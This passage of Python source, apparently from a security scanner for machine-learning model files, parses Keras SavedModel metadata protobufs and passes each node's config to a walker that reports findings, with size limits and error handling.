    keras = False
    try:
        for node in fields(source, 0, source.size, limit):
            if node.number != 1 or node.wire_type != LEN:
                continue
            identifier = ""
            for inner in fields(source, node.offset, node.offset + node.value, limit):
                if inner.number == 4:
                    identifier = read_text(source, inner, 256) or ""  # the last one is kept
                elif inner.number == 5 and inner.wire_type == LEN:
                    found.append((inner.offset, inner.value))
            keras = keras or identifier.startswith("_tf_keras")
    except WireError as exc:
        return MetadataNodes(found, exc) if keras else None
    return MetadataNodes(found, None) if keras else None


class KerasMetadataHandler(Handler):
    """`keras_metadata.pb` beside a tf.keras SavedModel: each node's metadata is a Keras config."""

    name = "keras-metadata"
    label = "Keras SavedModel metadata"

    def detect(self, source: Source) -> bool:
        return metadata_nodes(source, _DETECT_NODES) is not None

    def scan(self, source: Source, ctx: Context) -> Iterator[Finding]:
        nodes = metadata_nodes(source, _MAX_NODES)
        if nodes is None:
            raise ScanError("keras_metadata.pb does not parse as SavedMetadata")
        limit = ctx.policy.limits.max_buffer_bytes
        for offset, length in nodes.found:
            if length > limit:
                raise LimitExceeded("max_buffer_bytes", f"node metadata of {length} bytes")
            # Layers appear both in the model's node and in their own; identical findings are merged.
            yield from ConfigWalker(ctx).walk(parse_config(source.read_at(offset, length)))
        if nodes.error is not None:
            raise ScanError(f"keras_metadata.pb is malformed after its last readable node: {nodes.error}")
